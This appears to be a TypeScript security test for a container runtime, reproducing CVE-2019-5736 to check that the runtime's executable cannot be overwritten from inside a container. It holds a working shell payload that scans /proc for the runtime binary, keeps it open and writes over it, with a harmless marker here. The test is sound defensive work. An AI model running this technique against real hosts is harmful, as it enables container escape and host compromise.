// CVE-2019-5736: a process of the container opens the executable of the runtime while that enters the container, by
// /proc/PID/exe, and writes to it when the runtime has gone. Whoever runs the runtime next runs what was written.

import { copyFileSync, readFileSync, writeFileSync } from 'node:fs'

import type { Box } from '#tests/support/box.ts'
import { attack, naively } from './attack.ts'

/**
 * Looks at all processes for one whose executable has a name of this form and is none of the image, keeps it open, and
 * writes to it when it can. For some seconds: a file that is being executed cannot be written.
 */
const thief = (form: string): string => `
  end=$(( $(date +%s) + 4 ))
  while [ $(date +%s) -lt $end ]; do
    for exe in /proc/[0-9]*/exe; do
      at=$(readlink $exe) && [ "$at" != /bin/busybox ] || continue
      case "$at" in ${form}) command exec 9<$exe && echo "found $at" >> /tmp/found && break 2 ;; esac
    done
  done 2>/dev/null
  while [ $(date +%s) -lt $end ]; do echo '#!taken' > /proc/self/fd/9 && break; done 2>/dev/null
  echo done >> /tmp/found
`

const TAKEN = '#!taken'
const beginning = (path: string): string => readFileSync(path).subarray(0, TAKEN.length).toString('latin1')

attack({
  name: 'CVE-2019-5736: the executable of the runtime is overwritten from inside a container',
  prepare: (box) => {
    // The program without the defence shares its processes with the host, whose executables are to be left alone.
    writeFileSync(`${box.rootfs}/thief-of-one`, thief(`${box.dir}/*`))
    writeFileSync(`${box.rootfs}/thief`, thief('*'))
    writeFileSync(`${box.rootfs}/entry`, '#!/proc/self/exe\n', { mode: 0o755 })
    copyFileSync(box.runtime.argv[0] ?? '', box.path('bunc'))
    copyFileSync('/bin/busybox', box.path('sh'))
  },
  // A shell that sees to something in the container before it executes the program.
  naive: (box) =>
    naively(
      box,
      `mount -t proc proc "$ROOTFS/proc"
       chroot "$ROOTFS" sh /thief-of-one & "$RUNTIME" -c 'sleep 1; exec chroot "$ROOTFS" true'; wait`,
      { RUNTIME: box.path('sh') },
    ),
  bunc: async (box) => {
    await box.running({ process: { args: ['sh', '/thief'] } })
    const runtime = [box.path('bunc'), '--root', box.root, 'exec']
    for (let i = 0; i < 20; i++)
      for (const program of ['/proc/self/exe', '/entry', 'true']) await box.program([...runtime, box.name, program])
    for (let i = 0; i < 60 && !done(box); i++) await Bun.sleep(100)
    if (!done(box)) throw new Error('Cannot say that the attack has failed: it has not ended')
  },
  harm: (box) => [box.path('bunc'), box.path('sh')].some((path) => beginning(path) === TAKEN),
})

function done(box: Box): boolean {
  try {
    return readFileSync(`${box.rootfs}/tmp/found`, 'utf8').includes('done')
  } catch {
    return false
  }
}
